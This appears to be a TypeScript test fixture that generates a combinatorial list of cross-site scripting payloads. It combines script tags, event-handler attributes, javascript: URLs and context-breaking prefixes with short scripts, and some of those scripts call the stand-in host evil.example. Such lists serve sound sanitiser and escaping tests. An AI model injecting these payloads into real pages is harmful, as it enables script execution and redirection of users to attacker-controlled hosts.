const SCRIPTS = ["alert(1)", "window.pwned=1", "fetch('//evil.example')", "location='//evil.example'"];

const MARKUP: readonly ((script: string) => string)[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<ScRiPt >${js}</sCrIpT>`,
  (js) => `<img src=x onerror=${js}>`,
  (js) => `<img src=x onerror="${js}">`,
  (js) => `<svg onload=${js}>`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg/onload=${js}//`,
  (js) => `<body onload=${js}>`,
  (js) => `<iframe srcdoc="<script>${js}</script>">`,
  (js) => `<iframe src="javascript:${js}">`,
  (js) => `<a href="javascript:${js}">点</a>`,
  (js) => `<details open ontoggle=${js}>`,
  (js) => `<input autofocus onfocus=${js}>`,
  (js) => `<video><source onerror=${js}></video>`,
  (js) => `<marquee onstart=${js}>`,
  (js) => `<object data="javascript:${js}">`,
  (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  (js) => `<style>@import 'x';</style><p style="background:url(javascript:${js})">`,
  (js) => `<math><mtext><style><img src=x onerror=${js}>`,
  (js) => `<template><img src=x onerror=${js}></template>`,
  (js) => `<form action="javascript:${js}"><button>点</button></form>`,
  (js) => `javascript:${js}`,
  (js) => `\${${js}}{{${js}}}`,
  (js) => `&lt;script&gt;${js}&lt;/script&gt;`,
  (js) => `\u003cimg src=x onerror=${js}\u003e`,
];

const BREAKS: readonly ((markup: string) => string)[] = [
  (markup) => markup,
  (markup) => `"'>${markup}`,
  (markup) => `</textarea></title></script>${markup}`,
  (markup) => `--><![CDATA[${markup}]]>`,
];

/** Words that would do something if a page took them for more than words. */
export const PAYLOADS: readonly string[] = BREAKS.flatMap((escape) =>
  MARKUP.flatMap((markup) => SCRIPTS.map((script) => escape(markup(script)))),
);
